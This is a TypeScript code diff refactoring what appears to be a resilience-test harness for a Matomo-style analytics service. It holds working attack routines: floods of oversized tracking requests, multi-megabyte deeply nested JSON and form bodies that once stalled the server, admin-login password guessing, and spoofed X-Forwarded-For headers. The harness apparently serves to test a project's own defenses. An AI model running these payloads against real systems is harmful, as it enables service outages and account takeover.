@@ -2,6 +2,7 @@ import { randomBytes } from 'node:crypto';
 import { connect, type Socket } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { ADMIN } from '../product.ts';
+import { ask } from './ask.ts';
 import { TARGET } from './scene.ts';
 
 /** What a stranger does: each ends at `until`, and tells how its requests were answered. */
@@ -18,14 +19,13 @@ const fromAnywhere = (): { 'x-forwarded-for': string } => {
   return { 'x-forwarded-for': `203.${a}.${b}.${c}` };
 };
 
-const ask = async (answers: Answers, url: string, options: RequestInit): Promise<void> => {
-  try {
-    const answer = await fetch(url, { ...options, signal: AbortSignal.timeout(60_000) });
-    note(answers, answer.status);
-    await answer.arrayBuffer();
-  } catch {
-    note(answers, 'none');
-  }
+const post = async (
+  answers: Answers,
+  url: string,
+  headers: Record<string, string>,
+  body: Buffer | string,
+): Promise<void> => {
+  note(answers, (await ask(url, { method: 'POST', headers, body })) ?? 'none');
 };
 
 /** Does it again and again, so many at a time, and no more often than every so many milliseconds. */
@@ -44,6 +44,9 @@ const repeat = async (
   await Promise.all(Array.from({ length: atOnce }, one));
 };
 
+const FORM_TYPE = 'application/x-www-form-urlencoded';
+const JSON_TYPE = 'application/json';
+
 const LABEL_LENGTH = 1_500;
 const LABELS_A_REQUEST = 100;
 
@@ -61,9 +64,9 @@ const labels: Attack = async (url, until) => {
         e_a: `${at} `.padEnd(LABEL_LENGTH, 'x'),
       };
     });
-    const headers = { 'content-type': 'application/json', ...fromAnywhere() };
+    const headers = { 'content-type': JSON_TYPE, ...fromAnywhere() };
     const body = JSON.stringify({ requests });
-    await ask(answers, `${url}/matomo.php`, { method: 'POST', headers, body });
+    await post(answers, `${url}/matomo.php`, headers, body);
   });
   return answers;
 };
@@ -75,9 +78,9 @@ const signIns: Attack = async (url, until) => {
   await repeat(until, { atOnce: 300, everyMs: 2_000 }, async () => {
     at += 1;
     const email = at % 2 === 0 ? ADMIN.email : `nobody${at}@example.org`;
-    const headers = { 'content-type': 'application/json', ...fromAnywhere() };
+    const headers = { 'content-type': JSON_TYPE, ...fromAnywhere() };
     const body = JSON.stringify({ email, password: `guess number ${at}` });
-    await ask(answers, `${url}/api/users/login`, { method: 'POST', headers, body });
+    await post(answers, `${url}/api/users/login`, headers, body);
   });
   return answers;
 };
@@ -112,30 +115,28 @@ const slowBodies: Attack = async (url, until) => {
 };
 
 const MILLION = 1_000_000;
-const form = { 'content-type': 'application/x-www-form-urlencoded' };
-const json = { 'content-type': 'application/json' };
-
 /** The requests that once held everybody up for seconds. */
-const huge: { headers: Record<string, string>; body: string }[] = [
-  { headers: form, body: `idsite=${TARGET}&rec=1&e_c=a&e_a=${'+'.repeat(8 * MILLION - 100)}` },
-  {
-    headers: form,
-    body: `idsite=${TARGET}&rec=1&urlref=https://${'a.'.repeat(4 * MILLION - 100)}`,
-  },
-  { headers: json, body: '['.repeat(4 * MILLION) },
-  { headers: json, body: `{"requests":${'['.repeat(4 * MILLION - 100)}` },
-  { headers: json, body: `{"requests":["?${'&'.repeat(8 * MILLION - 100)}"]}` },
-  { headers: json, body: `{"requests":[${'"",'.repeat(2.6 * MILLION)}""]}` },
-];
+const hugeBodies = (): [string, Buffer][] => {
+  const texts: [string, string][] = [
+    [FORM_TYPE, `idsite=${TARGET}&rec=1&e_c=a&e_a=${'+'.repeat(8 * MILLION - 100)}`],
+    [FORM_TYPE, `idsite=${TARGET}&rec=1&urlref=https://${'a.'.repeat(4 * MILLION - 100)}`],
+    [JSON_TYPE, '['.repeat(4 * MILLION)],
+    [JSON_TYPE, `{"requests":${'['.repeat(4 * MILLION - 100)}`],
+    [JSON_TYPE, `{"requests":["?${'&'.repeat(8 * MILLION - 100)}"]}`],
+    [JSON_TYPE, `{"requests":[${'"",'.repeat(2.6 * MILLION)}""]}`],
+  ];
+  return texts.map(([type, text]) => [type, Buffer.from(text)]);
+};
 
 const hugeHits: Attack = async (url, until) => {
   const answers: Answers = new Map();
+  const bodies = hugeBodies();
   let at = 0;
   await repeat(until, { atOnce: 2, everyMs: 500 }, async () => {
     at += 1;
-    const { headers, body } = huge[at % huge.length] ?? { headers: json, body: '' };
-    const options = { method: 'POST', headers: { ...headers, ...fromAnywhere() }, body };
-    await ask(answers, `${url}/matomo.php`, options);
+    const [type, body] = bodies[at % bodies.length] ?? [JSON_TYPE, Buffer.alloc(0)];
+    const headers = { 'content-type': type, ...fromAnywhere() };
+    await post(answers, `${url}/matomo.php`, headers, body);
   });
   return answers;
 };
